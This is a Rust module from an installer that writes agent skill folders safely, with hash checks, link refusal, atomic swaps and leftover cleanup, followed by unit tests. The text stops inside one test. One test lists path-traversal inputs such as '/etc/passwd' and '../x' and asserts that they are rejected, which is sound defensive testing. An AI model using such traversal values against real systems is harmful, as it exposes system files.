//! What an install finds on disk, and the only writes an install makes: a
//! skill folder, `<agent folder>/<name>/`, holding the files of the version
//! that was verified, byte for byte.
//!
//! How a folder is written ([`write_folder`]):
//!
//! 1. every file goes into a temporary folder beside the target, in the
//!    agent folder (`.skills-guide-tmp-<pid>-<n>`), each checked against its
//!    SHA-256 before it is written, made durable, then read back and checked
//!    again (content and execute bit);
//! 2. a new install renames that folder to the target; a replaced one swaps:
//!    the old folder is renamed away (`.skills-guide-old-<pid>-<n>-<name>`),
//!    the new one renamed in, the entries of the user's that were in the old
//!    folder (not written by the install being replaced) moved across, and
//!    the old folder removed.
//!
//! A failure before the swap removes the temporary folder and leaves the old
//! install whole; a failure of the second rename renames the old folder back.
//! The crash windows (a process killed, not an error returned):
//!
//! - while writing the temporary folder: it is left behind, holding only
//!   copies of the catalog's contents. [`clean_leftovers`], run at the next
//!   install into that agent folder, removes it;
//! - between the two renames: the target is absent and the old install is
//!   whole under its `-old-` name. [`clean_leftovers`] renames it back;
//! - after the second rename, before the old folder is removed: the new
//!   install is in place; the old folder may still hold entries of the
//!   user's. [`clean_leftovers`] moves across every entry the install being
//!   replaced did not write and that the target does not have, then removes
//!   the rest. Nothing of the user's is ever removed by a cleanup.
//!
//! Never here: following a link (every entry is looked at with
//! `symlink_metadata`; a link at the target, at a file's path or at any
//! folder on the way to one is refused, whatever `force` says), creating a
//! link, writing outside the agent folder, using a path from a record before
//! [`check_path`] accepted it (a record may come from a snapshot), removing
//! a file the install did not write.
//!
//! One residual gap, accepted as the engine's reader accepts it: an entry is
//! looked at before it is opened for reading, and checked again once open
//! (same file, still regular). A process swapping a file for a fifo in
//! between could make that open wait.

use std::collections::BTreeSet;
use std::fs;
use std::io::{Read, Write};
use std::path::{Component, Path, PathBuf};
use std::sync::atomic::{AtomicU64, Ordering};

use serde::{Deserialize, Serialize};
use skills_guide_engine::analyze::sha256_hex;
use skills_guide_engine::text::escape_invisible;

pub const SKILL_FILE: &str = "SKILL.md";
/// The names of the temporary folders a write makes in the agent folder.
pub const TMP_PREFIX: &str = ".skills-guide-tmp-";
/// The name an old install takes while it is swapped for a new one.
pub const OLD_PREFIX: &str = ".skills-guide-old-";
/// Most changes listed for one install; the others are counted.
pub const MAX_LISTED_CHANGES: usize = 1000;

/// Distinguishes the temporary folders of one process.
static COUNTER: AtomicU64 = AtomicU64::new(0);

/// One file an install wrote, as its record keeps it.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct InstalledFile {
    /// Relative to the skill folder, `/`-separated ([`check_path`]).
    pub path: String,
    /// Hex SHA-256 of the bytes written.
    pub sha256: String,
    pub bytes: u64,
    /// Written with the owner's execute bit (0o755, else 0o644).
    #[serde(default)]
    pub executable: bool,
}

/// An installed skill folder compared with the files its install wrote.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
#[serde(rename_all = "lowercase")]
pub enum Local {
    /// Every file byte for byte (and execute bit) what was installed, and
    /// nothing added.
    Clean,
    /// A file edited, removed or added since (the changes say which).
    Edited,
    /// The folder, or every file the install wrote, is gone.
    Missing,
    /// The folder, a file the install wrote, or a folder on the way to one
    /// is now a link or not what it was (a file where a folder was…): left alone.
    Tampered,
}

/// What happened to one path since the install.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
#[serde(rename_all = "lowercase")]
pub enum Change {
    /// A file the install wrote, with other bytes or another execute bit.
    Edited,
    /// A file the install wrote, gone.
    Removed,
    /// An entry the install did not write (a file, a folder, a link…).
    Added,
    /// A file the install wrote (or a folder on the way to one), now a link
    /// or not a regular file.
    Replaced,
}

/// One changed path of an install.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct FileChange {
    /// Relative to the skill folder, `/`-separated; escape it to show it.
    pub path: String,
    pub change: Change,
    /// For an added or replaced entry: `file`, `folder`, `link` or `other`.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub kind: Option<&'static str>,
}

/// An install's folder as found on disk.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Inspection {
    pub local: Local,
    /// Every change found, up to [`MAX_LISTED_CHANGES`], by path.
    pub changes: Vec<FileChange>,
    /// Changes past [`MAX_LISTED_CHANGES`], counted.
    pub unlisted: u64,
    /// The first link or non-file where the install wrote (or the folder
    /// itself): why it is [`Local::Tampered`].
    pub tampered: Option<(PathBuf, bool)>,
}

impl Inspection {
    /// A file the install wrote has other bytes now.
    pub fn has_edits(&self) -> bool {
        self.changes.iter().any(|c| c.change == Change::Edited)
    }

    /// The refusal a tampered folder gives.
    pub fn tampered_error(&self) -> Option<DiskError> {
        self.tampered.as_ref().map(
            |(p, link)| {
                if *link {
                    DiskError::Symlink(p.clone())
                } else {
                    DiskError::NotAFile(p.clone())
                }
            },
        )
    }
}

#[derive(Debug, thiserror::Error)]
pub enum DiskError {
    #[error("{0} is a symbolic link; Skills Guide never writes through one — remove it, then install again")]
    Symlink(PathBuf),
    #[error("{0} is not a regular file or folder; nothing was written")]
    NotAFile(PathBuf),
    #[error("{dir} resolves to {resolved}, outside the agent folder {folder}; nothing was written")]
    Escapes { dir: PathBuf, resolved: PathBuf, folder: PathBuf },
    #[error(
        "{path}: the content does not match its verified SHA-256 ({want}, got {got}); nothing was installed, sync again"
    )]
    HashMismatch { path: String, want: String, got: String },
    #[error("the skill names a file {0:?} that cannot be a path inside its folder; nothing was written")]
    BadPath(String),
    #[error("{0}: the execute bit could not be set as the verified version has it; nothing was installed")]
    Mode(PathBuf),
    #[error("{path}: {source}")]
    Io { path: PathBuf, source: std::io::Error },
}

fn io(path: &Path) -> impl FnOnce(std::io::Error) -> DiskError + '_ {
    move |source| DiskError::Io { path: path.to_path_buf(), source }
}

/// Accepts a path from a record as a path inside a skill folder: relative,
/// `/`-separated, every component a plain name (not empty, `.` or `..`, no
/// NUL, no backslash, no drive or root). Returns its components.
pub fn check_path(path: &str) -> Result<Vec<&str>, DiskError> {
    let bad = || DiskError::BadPath(escape_invisible(path).chars().take(300).collect());
    if path.is_empty() || path.starts_with('/') || path.contains(['\\', '\0']) {
        return Err(bad());
    }
    let parts: Vec<&str> = path.split('/').collect();
    for part in &parts {
        let mut comps = Path::new(part).components();
        let plain = matches!((comps.next(), comps.next()), (Some(Component::Normal(n)), None) if n == *part);
        if !plain {
            return Err(bad());
        }
    }
    Ok(parts)
}

/// The folders on the way to `files` (`""` for the skill folder itself,
/// `scripts`, `scripts/lib`…).
fn folders_of<'a>(files: impl Iterator<Item = &'a str>) -> BTreeSet<String> {
    let mut out = BTreeSet::from([String::new()]);
    for f in files {
        let mut at = 0;
        while let Some(i) = f[at..].find('/') {
            out.insert(f[..at + i].to_owned());
            at += i + 1;
        }
    }
    out
}

fn join(base: &Path, rel: &str) -> PathBuf {
    rel.split('/').filter(|c| !c.is_empty()).fold(base.to_path_buf(), |p, c| p.join(c))
}

fn kind_of(meta: &fs::Metadata) -> &'static str {
    let t = meta.file_type();
    if t.is_symlink() {
        "link"
    } else if t.is_dir() {
        "folder"
    } else if t.is_file() {
        "file"
    } else {
        "other"
    }
}

/// `symlink_metadata`, `None` when there is nothing there.
fn meta_of(path: &Path) -> Result<Option<fs::Metadata>, DiskError> {
    match fs::symlink_metadata(path) {
        Ok(m) => Ok(Some(m)),
        Err(e) if e.kind() == std::io::ErrorKind::NotFound => Ok(None),
        Err(e) => Err(io(path)(e)),
    }
}

#[cfg(unix)]
fn is_executable(meta: &fs::Metadata) -> bool {
    use std::os::unix::fs::PermissionsExt;
    meta.permissions().mode() & 0o100 != 0
}

#[cfg(not(unix))]
fn is_executable(_: &fs::Metadata) -> bool {
    false
}

/// Reads a regular file looked at as `seen`, without following a link:
/// the open file must be the one looked at. At most `limit` bytes plus one.
fn read_regular(path: &Path, seen: &fs::Metadata, limit: u64) -> Result<Option<Vec<u8>>, DiskError> {
    if !seen.file_type().is_file() {
        return Ok(None);
    }
    let file = fs::File::open(path).map_err(io(path))?;
    let now = file.metadata().map_err(io(path))?;
    #[cfg(unix)]
    {
        use std::os::unix::fs::MetadataExt;
        if now.dev() != seen.dev() || now.ino() != seen.ino() {
            return Ok(None);
        }
    }
    if !now.is_file() {
        return Ok(None);
    }
    let mut bytes = Vec::new();
    file.take(limit.saturating_add(1)).read_to_end(&mut bytes).map_err(io(path))?;
    Ok(Some(bytes))
}

/// What is at `rel` in `dir`, walking its folders without following any
/// link: `Ok(meta)` for what is there (or `None`), `Err((path, is_link))`
/// for a link or a non-folder on the way.
fn walk_to(dir: &Path, parts: &[&str]) -> Result<Result<Option<fs::Metadata>, (PathBuf, bool)>, DiskError> {
    let mut at = dir.to_path_buf();
    for (i, part) in parts.iter().enumerate() {
        at.push(part);
        let Some(meta) = meta_of(&at)? else { return Ok(Ok(None)) };
        if i + 1 == parts.len() {
            return Ok(Ok(Some(meta)));
        }
        if meta.file_type().is_symlink() {
            return Ok(Err((at, true)));
        }
        if !meta.is_dir() {
            return Ok(Err((at, false)));
        }
    }
    Ok(Ok(None))
}

/// Looks at the install in `dir` without following any link in it, and
/// compares it with the `files` it wrote: each file's bytes and execute bit,
/// and every entry of the folders it wrote into that it did not write.
pub fn inspect(dir: &Path, files: &[InstalledFile]) -> Result<Inspection, DiskError> {
    let mut out = Inspection { local: Local::Clean, changes: Vec::new(), unlisted: 0, tampered: None };
    let push = |out: &mut Inspection, c: FileChange| {
        if out.changes.len() < MAX_LISTED_CHANGES {
            out.changes.push(c);
        } else {
            out.unlisted += 1;
        }
    };
    let Some(meta) = meta_of(dir)? else {
        out.local = Local::Missing;
        for f in files {
            push(&mut out, FileChange { path: f.path.clone(), change: Change::Removed, kind: None });
        }
        return Ok(out);
    };
    if meta.file_type().is_symlink() || !meta.is_dir() {
        out.local = Local::Tampered;
        out.tampered = Some((dir.to_path_buf(), meta.file_type().is_symlink()));
        return Ok(out);
    }
    let mut present = 0;
    let mut sorted: Vec<&InstalledFile> = files.iter().collect();
    sorted.sort_by(|a, b| a.path.cmp(&b.path));
    for f in &sorted {
        let parts = check_path(&f.path)?;
        let meta = match walk_to(dir, &parts)? {
            Ok(Some(m)) => m,
            Ok(None) => {
                push(&mut out, FileChange { path: f.path.clone(), change: Change::Removed, kind: None });
                continue;
            }
            Err((at, link)) => {
                out.tampered.get_or_insert((at, link));
                let kind = Some(if link { "link" } else { "file" });
                push(&mut out, FileChange { path: f.path.clone(), change: Change::Replaced, kind });
                continue;
            }
        };
        let path = join(dir, &f.path);
        if !meta.file_type().is_file() {
            out.tampered.get_or_insert((path, meta.file_type().is_symlink()));
            push(&mut out, FileChange { path: f.path.clone(), change: Change::Replaced, kind: Some(kind_of(&meta)) });
            continue;
        }
        present += 1;
        let same = meta.len() == f.bytes
            && is_executable(&meta) == f.executable
            && read_regular(&path, &meta, f.bytes)?.is_some_and(|b| sha256_hex(&b) == f.sha256);
        if !same {
            push(&mut out, FileChange { path: f.path.clone(), change: Change::Edited, kind: None });
        }
    }
    // Entries the install did not write, in the folders it wrote into (a
    // folder of the user's is one entry: its content is not walked).
    let written: BTreeSet<&str> = files.iter().map(|f| f.path.as_str()).collect();
    let folders = folders_of(files.iter().map(|f| f.path.as_str()));
    for folder in &folders {
        let at = join(dir, folder);
        let is_real_dir = match folder.is_empty() {
            true => true,
            false => matches!(walk_to(dir, &folder.split('/').collect::<Vec<_>>())?, Ok(Some(m)) if m.is_dir()),
        };
        if !is_real_dir {
            continue;
        }
        let mut names = Vec::new();
        for e in fs::read_dir(&at).map_err(io(&at))? {
            let e = e.map_err(io(&at))?;
            names.push(e.file_name());
        }
        names.sort();
        for name in names {
            let name = name.to_string_lossy();
            let rel = if folder.is_empty() { name.to_string() } else { format!("{folder}/{name}") };
            if written.contains(rel.as_str()) || folders.contains(&rel) {
                continue;
            }
            let kind = meta_of(&at.join(name.as_ref()))?.map(|m| kind_of(&m));
            push(&mut out, FileChange { path: rel, change: Change::Added, kind });
        }
    }
    out.changes.sort_by(|a, b| a.path.cmp(&b.path));
    out.local = if out.tampered.is_some() {
        Local::Tampered
    } else if present == 0 && !files.is_empty() {
        Local::Missing
    } else if out.changes.is_empty() && out.unlisted == 0 {
        Local::Clean
    } else {
        Local::Edited
    };
    Ok(out)
}

/// What is at the target of an install.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Target {
    Nothing,
    Folder,
    Symlink(PathBuf),
    NotAFolder(PathBuf),
}

/// Looks at `dir` itself, without following it.
pub fn target(dir: &Path) -> Result<Target, DiskError> {
    Ok(match meta_of(dir)? {
        None => Target::Nothing,
        Some(m) if m.file_type().is_symlink() => Target::Symlink(dir.to_path_buf()),
        Some(m) if m.is_dir() => Target::Folder,
        Some(_) => Target::NotAFolder(dir.to_path_buf()),
    })
}

/// What [`write_folder`] did.
#[derive(Debug, Clone, PartialEq, Eq, Default)]
pub struct Written {
    /// The skill folder did not exist before.
    pub created: bool,
    /// Entries of the replaced folder that its install had not written,
    /// moved into the new one (relative paths).
    pub kept: Vec<String>,
}

/// Writes the skill folder `<folder>/<name>` holding `files`, each file's
/// bytes given by `fetch` when it is written (checked against its SHA-256,
/// so a wrong content stops the write midway with nothing changed). An
/// existing folder is swapped for the new one (module docs); `ours` are the
/// paths the install being replaced wrote: the folder's other entries are
/// the user's and move into the new folder, unless the new version has a
/// file at that path.
pub fn write_folder<E: From<DiskError>>(
    folder: &Path,
    name: &str,
    files: &[InstalledFile],
    ours: &[String],
    mut fetch: impl FnMut(&InstalledFile) -> Result<Vec<u8>, E>,
) -> Result<Written, E> {
    for f in files {
        check_path(&f.path)?;
    }
    // The agent folder itself may be a link the user made (dotfiles): it is
    // where the user said skills go. Below it, nothing is followed.
    fs::create_dir_all(folder).map_err(io(folder))?;
    let dir = folder.join(name);
    let exists = match target(&dir)? {
        Target::Nothing => false,
        Target::Folder => {
            refuse_links_on_the_way(&dir, files, ours)?;
            true
        }
        Target::Symlink(p) => return Err(DiskError::Symlink(p).into()),
        Target::NotAFolder(p) => return Err(DiskError::NotAFile(p).into()),
    };
    let (tmp, n) = make_temp_dir(folder)?;
    if let Err(e) = fill(folder, &tmp, files, &mut fetch) {
        let _ = fs::remove_dir_all(&tmp);
        return Err(e);
    }
    if !exists {
        if let Err(e) = fs::rename(&tmp, &dir) {
            let _ = fs::remove_dir_all(&tmp);
            return Err(io(&dir)(e).into());
        }
        sync_dir(folder);
        return Ok(Written { created: true, kept: Vec::new() });
    }
    let old = folder.join(format!("{OLD_PREFIX}{}-{n}-{name}", std::process::id()));
    if let Err(e) = fs::rename(&dir, &old) {
        let _ = fs::remove_dir_all(&tmp);
        return Err(io(&dir)(e).into());
    }
    if let Err(e) = fs::rename(&tmp, &dir) {
        // Put the old install back as it was.
        let _ = fs::rename(&old, &dir);
        let _ = fs::remove_dir_all(&tmp);
        return Err(io(&dir)(e).into());
    }
    sync_dir(folder);
    let mut kept = Vec::new();
    carry_over(&old, &dir, ours, &mut kept)?;
    sync_dir(&dir);
    // Only what the replaced install wrote (or the user forced away) is left in it.
    let _ = fs::remove_dir_all(&old);
    sync_dir(folder);
    Ok(Written { created: false, kept })
}

/// Refuses a link at any folder on the way to a file about to be written,
/// or at the file's own path; and, unless the replaced install wrote it
/// (`ours`), a file where a folder is needed or anything but a regular file
/// where a file goes: the user's entry would be lost.
fn refuse_links_on_the_way(dir: &Path, files: &[InstalledFile], ours: &[String]) -> Result<(), DiskError> {
    let written: BTreeSet<&str> = ours.iter().map(String::as_str).collect();
    let folders = folders_of(ours.iter().map(String::as_str));
    let rel = |at: &Path| at.strip_prefix(dir).map(|r| r.to_string_lossy().replace('\\', "/")).unwrap_or_default();
    for f in files {
        let parts = check_path(&f.path)?;
        match walk_to(dir, &parts)? {
            Err((at, true)) => return Err(DiskError::Symlink(at)),
            Err((at, false)) if !written.contains(rel(&at).as_str()) => return Err(DiskError::NotAFile(at)),
            Ok(Some(m)) if m.file_type().is_symlink() => return Err(DiskError::Symlink(join(dir, &f.path))),
            Ok(Some(m)) if !(m.file_type().is_file() || m.is_dir() && folders.contains(&f.path)) => {
                return Err(DiskError::NotAFile(join(dir, &f.path)))
            }
            _ => {}
        }
    }
    Ok(())
}

fn make_temp_dir(folder: &Path) -> Result<(PathBuf, u64), DiskError> {
    loop {
        let n = COUNTER.fetch_add(1, Ordering::Relaxed);
        let tmp = folder.join(format!("{TMP_PREFIX}{}-{n}", std::process::id()));
        match fs::create_dir(&tmp) {
            Ok(()) => {
                if let Err(e) = ensure_inside(folder, &tmp) {
                    let _ = fs::remove_dir(&tmp);
                    return Err(e);
                }
                return Ok((tmp, n));
            }
            Err(e) if e.kind() == std::io::ErrorKind::AlreadyExists => continue,
            Err(e) => return Err(io(&tmp)(e)),
        }
    }
}

/// Writes every file into the fresh folder `tmp`, then reads each back.
fn fill<E: From<DiskError>>(
    folder: &Path,
    tmp: &Path,
    files: &[InstalledFile],
    fetch: &mut impl FnMut(&InstalledFile) -> Result<Vec<u8>, E>,
) -> Result<(), E> {
    let mut sorted: Vec<&InstalledFile> = files.iter().collect();
    sorted.sort_by(|a, b| a.path.cmp(&b.path));
    let mut made = BTreeSet::new();
    for f in &sorted {
        let bytes = fetch(f)?;
        let got = sha256_hex(&bytes);
        if got != f.sha256 {
            return Err(DiskError::HashMismatch { path: f.path.clone(), want: f.sha256.clone(), got }.into());
        }
        let parts = check_path(&f.path)?;
        let mut at = tmp.to_path_buf();
        for part in &parts[..parts.len() - 1] {
            at.push(part);
            if made.insert(at.clone()) {
                fs::create_dir(&at).map_err(io(&at))?;
            }
        }
        let path = at.join(parts[parts.len() - 1]);
        write_file(&path, &bytes, f.executable)?;
    }
    for d in made.iter().rev() {
        sync_dir(d);
    }
    sync_dir(tmp);
    // Read back what landed: the bytes and mode the version has.
    for f in &sorted {
        let path = join(tmp, &f.path);
        let meta = meta_of(&path)?.ok_or_else(|| DiskError::NotAFile(path.clone()))?;
        let landed = read_regular(&path, &meta, f.bytes)?.ok_or_else(|| DiskError::NotAFile(path.clone()))?;
        let got = sha256_hex(&landed);
        if got != f.sha256 {
            return Err(DiskError::HashMismatch { path: f.path.clone(), want: f.sha256.clone(), got }.into());
        }
        if is_executable(&meta) != f.executable && cfg!(unix) {
            return Err(DiskError::Mode(path).into());
        }
    }
    ensure_inside(folder, tmp)?;
    Ok(())
}

fn write_file(path: &Path, bytes: &[u8], executable: bool) -> Result<(), DiskError> {
    let mut opts = fs::OpenOptions::new();
    opts.write(true).create_new(true);
    let mode = if executable { 0o755 } else { 0o644 };
    #[cfg(unix)]
    {
        use std::os::unix::fs::OpenOptionsExt;
        opts.mode(mode);
    }
    let mut file = opts.open(path).map_err(io(path))?;
    file.write_all(bytes).map_err(io(path))?;
    // The mode exactly, whatever the umask.
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt;
        file.set_permissions(fs::Permissions::from_mode(mode)).map_err(io(path))?;
    }
    #[cfg(not(unix))]
    let _ = mode;
    file.sync_all().map_err(io(path))
}

/// Moves the user's entries of the replaced folder `old` into the new
/// folder `new`: every entry that is not one of `ours` (the paths the
/// replaced install wrote) and that `new` does not have. A folder holding
/// nothing of `ours` moves whole; nothing is followed, nothing is copied.
fn carry_over(old: &Path, new: &Path, ours: &[String], kept: &mut Vec<String>) -> Result<(), DiskError> {
    let written: BTreeSet<&str> = ours.iter().map(String::as_str).collect();
    let folders = folders_of(ours.iter().map(String::as_str));
    carry_in(old, new, "", &written, &folders, kept)
}

fn carry_in(
    old: &Path,
    new: &Path,
    rel: &str,
    written: &BTreeSet<&str>,
    folders: &BTreeSet<String>,
    kept: &mut Vec<String>,
) -> Result<(), DiskError> {
    let from_dir = join(old, rel);
    let to_dir = join(new, rel);
    let mut names = Vec::new();
    for e in fs::read_dir(&from_dir).map_err(io(&from_dir))? {
        names.push(e.map_err(io(&from_dir))?.file_name());
    }
    names.sort();
    for name in names {
        // A name that is not UTF-8 is never one of ours.
        let utf8 = name.to_str();
        let shown = name.to_string_lossy();
        let path = if rel.is_empty() { shown.to_string() } else { format!("{rel}/{shown}") };
        let from = from_dir.join(&name);
        let to = to_dir.join(&name);
        let Some(meta) = meta_of(&from)? else { continue };
        if meta.is_dir() {
            match meta_of(&to)? {
                // The new version has this folder too: the user's entries go into it.
                Some(m) if m.is_dir() && !m.file_type().is_symlink() && utf8.is_some() => {
                    carry_in(old, new, &path, written, folders, kept)?;
                }
                // Refused before the swap unless the replaced install wrote there.
                Some(_) => {}
                None if utf8.is_some() && folders.contains(&path) => {
                    // A folder of ours the new version does not have: only
                    // the user's entries in it stay.
                    fs::create_dir(&to).map_err(io(&to))?;
                    carry_in(old, new, &path, written, folders, kept)?;
                    let _ = fs::remove_dir(&to);
                }
                None => {
                    fs::rename(&from, &to).map_err(io(&from))?;
                    kept.push(path);
                }
            }
            continue;
        }
        let ours = utf8.is_some() && written.contains(path.as_str());
        if ours || meta_of(&to)?.is_some() {
            continue;
        }
        fs::rename(&from, &to).map_err(io(&from))?;
        kept.push(path);
    }
    Ok(())
}

/// Finishes or undoes what a killed install left in the agent folder
/// `folder` (module docs): removes temporary folders, renames an old
/// install back where nothing replaced it, moves the user's entries out of
/// an old install that was replaced. `ours_of(name)`: the paths the install
/// recorded for `name` wrote. Only what another process (one no longer
/// running, where that can be known) left is touched. Returns what it did,
/// for the log.
pub fn clean_leftovers(folder: &Path, ours_of: impl Fn(&str) -> Vec<String>) -> Vec<String> {
    let mut done = Vec::new();
    let Ok(entries) = fs::read_dir(folder) else { return done };
    let mut names: Vec<String> = entries.flatten().filter_map(|e| e.file_name().to_str().map(str::to_owned)).collect();
    names.sort();
    for name in names {
        let path = folder.join(&name);
        // Never a link, never something this program did not make.
        let is_dir = matches!(meta_of(&path), Ok(Some(m)) if m.is_dir() && !m.file_type().is_symlink());
        if !is_dir {
            continue;
        }
        if let Some(rest) = name.strip_prefix(TMP_PREFIX) {
            if leftover_pid(rest).is_some_and(gone) && fs::remove_dir_all(&path).is_ok() {
                done.push(format!("removed the temporary folder {name}"));
            }
        } else if let Some(rest) = name.strip_prefix(OLD_PREFIX) {
            let Some(pid) = leftover_pid(rest) else { continue };
            // `<pid>-<n>-<name>`: a skill name never holds anything but [a-z0-9-].
            let skill = rest.splitn(3, '-').nth(2).unwrap_or("");
            if !gone(pid) || super::name::validate(skill).is_err() {
                continue;
            }
            let dir = folder.join(skill);
            match target(&dir) {
                Ok(Target::Nothing) => {
                    let put_back = fs::rename(&path, &dir).is_ok();
                    if put_back {
                        done.push(format!("put back the install of {skill} a killed update had moved aside"));
                    }
                }
                Ok(Target::Folder) => {
                    let mut kept = Vec::new();
                    if carry_over(&path, &dir, &ours_of(skill), &mut kept).is_ok() {
                        let _ = fs::remove_dir_all(&path);
                        done.push(format!("finished a killed update of {skill} ({} entries kept)", kept.len()));
                    }
                }
                _ => {}
            }
        }
    }
    if !done.is_empty() {
        sync_dir(folder);
    }
    done
}

/// The process id at the start of a leftover's name (`<pid>-…`).
fn leftover_pid(rest: &str) -> Option<u32> {
    rest.split('-').next()?.parse().ok()
}

/// Whether the process `pid` is no longer running. This process's own
/// leftovers are its writes in flight. Where it cannot be known (no
/// `/proc`), another process's leftover counts as a dead one's: two
/// programs installing into the same agent folder at the same moment is
/// the accepted risk (the other one's write then fails and says so).
fn gone(pid: u32) -> bool {
    if pid == std::process::id() {
        return false;
    }
    let proc_root = Path::new("/proc/self");
    if proc_root.exists() {
        return !Path::new("/proc").join(pid.to_string()).exists();
    }
    true
}

/// The folder, resolved, must sit directly in the agent folder, resolved.
fn ensure_inside(folder: &Path, dir: &Path) -> Result<(), DiskError> {
    let resolved_folder = folder.canonicalize().map_err(io(folder))?;
    let resolved = dir.canonicalize().map_err(io(dir))?;
    if resolved.parent() != Some(resolved_folder.as_path()) {
        return Err(DiskError::Escapes { dir: dir.to_path_buf(), resolved, folder: resolved_folder });
    }
    Ok(())
}

/// Makes renames and new entries durable where the platform allows it
/// (best effort: a folder cannot be opened for syncing everywhere).
fn sync_dir(dir: &Path) {
    #[cfg(unix)]
    if let Ok(d) = fs::File::open(dir) {
        let _ = d.sync_all();
    }
    #[cfg(not(unix))]
    let _ = dir;
}

/// What removing an install did and left in place.
#[derive(Debug, Clone, PartialEq, Eq, Default, serde::Serialize)]
pub struct Removed {
    /// At least one file the install wrote was there and was removed.
    pub file_removed: bool,
    /// The skill folder was empty afterwards and was removed too.
    pub folder_removed: bool,
    /// The files removed, relative to the skill folder.
    pub removed: Vec<String>,
    /// Entries Skills Guide did not write (or folders not empty), left alone.
    pub left: Vec<PathBuf>,
}

/// Removes the `files` an install wrote in `dir` (each a regular file,
/// reached without crossing a link), then the folders it wrote into that
/// are then empty, the skill folder last. Everything else stays.
pub fn remove_files(dir: &Path, files: &[InstalledFile]) -> Result<Removed, DiskError> {
    let mut out = Removed::default();
    match target(dir)? {
        Target::Folder => {}
        // Nothing of ours to reach: the caller only drops the record.
        _ => return Ok(out),
    }
    let mut sorted: Vec<&InstalledFile> = files.iter().collect();
    sorted.sort_by(|a, b| a.path.cmp(&b.path));
    for f in sorted {
        let parts = check_path(&f.path)?;
        if let Ok(Some(m)) = walk_to(dir, &parts)? {
            if m.file_type().is_file() {
                let path = join(dir, &f.path);
                match fs::remove_file(&path) {
                    Ok(()) => out.removed.push(f.path.clone()),
                    Err(e) if e.kind() == std::io::ErrorKind::NotFound => {}
                    Err(e) => return Err(io(&path)(e)),
                }
            }
        }
    }
    out.file_removed = !out.removed.is_empty();
    let folders = folders_of(files.iter().map(|f| f.path.as_str()));
    // Deepest first; a folder that is not empty (or not a real folder) stays.
    let mut by_depth: Vec<&String> = folders.iter().filter(|f| !f.is_empty()).collect();
    by_depth.sort_by_key(|f| std::cmp::Reverse(f.matches('/').count()));
    for folder in by_depth {
        let parts: Vec<&str> = folder.split('/').collect();
        if matches!(walk_to(dir, &parts)?, Ok(Some(m)) if m.is_dir() && !m.file_type().is_symlink()) {
            let _ = fs::remove_dir(join(dir, folder));
        }
    }
    // What is left: the entries the install did not write, in the folders
    // it wrote into that are still there.
    let left = inspect(dir, files)?;
    out.left.extend(left.changes.iter().filter(|c| c.change == Change::Added).map(|c| join(dir, &c.path)));
    out.left.sort();
    out.left.dedup();
    if out.left.is_empty() {
        out.folder_removed = fs::remove_dir(dir).is_ok();
    }
    sync_dir(dir.parent().unwrap_or(dir));
    Ok(out)
}

#[cfg(test)]
mod tests {
    use super::*;

    const MD: &[u8] = b"---\nname: x\ndescription: d\n---\n";
    const RUN: &[u8] = b"#!/bin/sh\necho run\n";
    const REF: &[u8] = b"# A reference\n";

    fn file(path: &str, bytes: &[u8], executable: bool) -> (InstalledFile, Vec<u8>) {
        let f = InstalledFile { path: path.into(), sha256: sha256_hex(bytes), bytes: bytes.len() as u64, executable };
        (f, bytes.to_vec())
    }

    fn version(files: &[(InstalledFile, Vec<u8>)]) -> Vec<InstalledFile> {
        files.iter().map(|(f, _)| f.clone()).collect()
    }

    fn three() -> Vec<(InstalledFile, Vec<u8>)> {
        vec![file("SKILL.md", MD, false), file("scripts/run.sh", RUN, true), file("references/a.md", REF, false)]
    }

    /// Writes `files` with their own bytes.
    fn write(folder: &Path, files: &[(InstalledFile, Vec<u8>)], ours: &[String]) -> Result<Written, DiskError> {
        write_folder(folder, "x", &version(files), ours, |f: &InstalledFile| -> Result<Vec<u8>, DiskError> {
            Ok(files.iter().find(|(g, _)| g.path == f.path).map(|(_, b)| b.clone()).unwrap_or_default())
        })
    }

    /// Every entry under `dir`, relative, sorted, without following links.
    fn tree(dir: &Path) -> Vec<String> {
        fn walk(base: &Path, dir: &Path, out: &mut Vec<String>) {
            let Ok(entries) = fs::read_dir(dir) else { return };
            for e in entries.flatten() {
                let p = e.path();
                let rel = p.strip_prefix(base).unwrap().to_string_lossy().into_owned();
                let m = fs::symlink_metadata(&p).unwrap();
                if m.is_dir() {
                    out.push(format!("{rel}/"));
                    walk(base, &p, out);
                } else {
                    out.push(rel);
                }
            }
        }
        let mut out = Vec::new();
        walk(dir, dir, &mut out);
        out.sort();
        out
    }

    #[cfg(unix)]
    fn mode(p: &Path) -> u32 {
        use std::os::unix::fs::PermissionsExt;
        fs::symlink_metadata(p).unwrap().permissions().mode() & 0o777
    }

    #[test]
    fn paths_from_a_record_are_checked_before_use() {
        for ok in ["SKILL.md", "scripts/run.sh", "a/b/c.txt", ".hidden", "a b/c"] {
            assert!(check_path(ok).is_ok(), "{ok}");
        }
        for bad in ["", "/etc/passwd", "..", ".", "a/../b", "a/./b", "a//b", "a/", "a\\b", "a\0b", "../x"] {
            assert!(matches!(check_path(bad), Err(DiskError::BadPath(_))), "{bad:?}");
        }
        let err = write_folder(Path::new("/nonexistent-never"), "x", &[file("../out", MD, false).0], &[], |_| {
            Ok::<_, DiskError>(MD.to_vec())
        })
        .unwrap_err();
        assert!(matches!(err, DiskError::BadPath(_)), "refused before anything is created: {err}");
        assert!(!Path::new("/nonexistent-never").exists());
    }

    #[cfg(unix)]
    #[test]
    fn a_folder_lands_byte_for_byte_with_its_execute_bits_and_no_temporary_folder() {
        let tmp = tempfile::tempdir().unwrap();
        let folder = tmp.path().join("skills");
        let files = three();
        let w = write(&folder, &files, &[]).unwrap();
        assert!(w.created && w.kept.is_empty());
        for (f, bytes) in &files {
            assert_eq!(&fs::read(folder.join("x").join(&f.path)).unwrap(), bytes, "{}", f.path);
        }
        assert_eq!(mode(&folder.join("x/scripts/run.sh")), 0o755);
        assert_eq!(mode(&folder.join("x/SKILL.md")), 0o644);
        assert_eq!(
            tree(&folder),
            ["x/", "x/SKILL.md", "x/references/", "x/references/a.md", "x/scripts/", "x/scripts/run.sh"]
        );
        let seen = inspect(&folder.join("x"), &version(&files)).unwrap();
        assert_eq!((seen.local, seen.changes.len()), (Local::Clean, 0));
